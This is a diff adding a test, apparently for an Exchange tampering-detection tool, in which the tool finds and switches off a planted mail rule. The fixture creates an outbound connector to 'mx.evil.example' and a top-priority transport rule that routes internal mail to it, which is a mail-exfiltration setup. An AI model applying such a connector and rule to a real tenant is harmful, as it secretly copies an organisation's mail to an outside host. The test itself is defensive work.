@@ -73,4 +73,47 @@ test('tampering is seen, shown as a difference and repaired', async (t) => {
     await button('Take back').click()
     await page.getByText('Nothing was accepted.').waitFor()
   })
+
+  await t.test(
+    'a rule of somebody else above ours is switched off with its command in sight, and on again',
+    async () => {
+      await tamper('New-OutboundConnector', {
+        Name: 'Quiet copy',
+        ConnectorType: 'OnPremises',
+        SmartHosts: ['mx.evil.example'],
+        UseMXRecord: false,
+        IsTransportRuleScoped: true,
+        TlsSettings: 'EncryptionOnly',
+      })
+      await tamper('New-TransportRule', {
+        Name: 'Quiet copy',
+        Priority: 0,
+        SentToScope: 'InOrganization',
+        RouteMessageOutboundConnector: 'Quiet copy',
+      })
+      await made.advance(60_000)
+      await page.getByRole('tab', { name: 'Open' }).click()
+      await button('Check now').click()
+      await button('Switch off').first().click()
+      const dialog = page.getByRole('dialog', { name: 'Switch off Quiet copy' })
+      await dialog.getByText('Disable-TransportRule -Identity', { exact: false }).waitFor()
+      await dialog.getByText('Enable-TransportRule -Identity', { exact: false }).waitFor()
+      await settled(page)
+      assert.deepEqual(await axe(page), [])
+      await dialog.getByRole('button', { name: 'Switch off' }).click()
+      await dialog.waitFor({ state: 'hidden' })
+      const ruleState = () =>
+        made.emulator.exchange
+          .of(made.emulator.tenant('Contoso'))
+          .table('TransportRule')
+          .rows()
+          .find(({ name }) => name === 'Quiet copy')?.values['State']
+      assert.equal(ruleState(), 'Disabled')
+      await page.getByRole('tab', { name: 'Switched off' }).click()
+      await button('Switch on again').click()
+      await page.getByRole('dialog').getByRole('button', { name: 'Switch on' }).click()
+      await page.getByText('Switched on again').waitFor()
+      assert.equal(ruleState(), 'Enabled')
+    },
+  )
 })
